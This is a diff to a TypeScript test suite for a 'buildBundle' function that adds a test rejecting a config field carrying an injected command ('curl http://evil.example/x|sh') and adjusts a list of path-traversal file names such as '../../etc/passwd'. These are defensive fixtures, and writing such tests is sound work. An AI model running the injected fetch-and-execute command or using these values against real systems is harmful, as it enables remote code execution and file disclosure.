@@ -60,8 +60,15 @@ describe('buildBundle', () => {
     expect(seen.every((p, i) => i === 0 || p >= seen[i - 1]!)).toBe(true);
   });
 
+  it('refuses a site with an unsafe value even when forced', async () => {
+    const site = variant((s) => Object.assign(s.airGap, { importLocalImages: true, imagesPath: '/opt/x; curl http://evil.example/x|sh #' }));
+    const result = await buildBundle(site, { format: 'zip', force: true });
+    expect(result.ok).toBe(false);
+    expect(!result.ok && result.reason).toMatch(/unsafe value.*even when forced[\s\S]*airGap\.imagesPath/);
+  });
+
   it('keeps hostile names inside their folder', async () => {
-    const hostile = ['../../etc/passwd', 'a/b\\c', 'line\nbreak', 'ünïcødé-名前', 'x'.repeat(300), '.', '..', '', '.hidden'];
+    const hostile = ['../../etc/passwd', 'a/b\\c', 'tab and space', 'ünïcødé-名前', 'x'.repeat(300), '.', '..', '', '.hidden'];
     const site = variant((s) => {
       s.name = '../../../evil site';
       s.nodes = hostile.map((name, i) => ({ ...s.nodes[Math.min(i, 4)]!, name, role: i === 0 ? 'init' : 'worker', address: `192.168.1.${30 + i}/24` }));
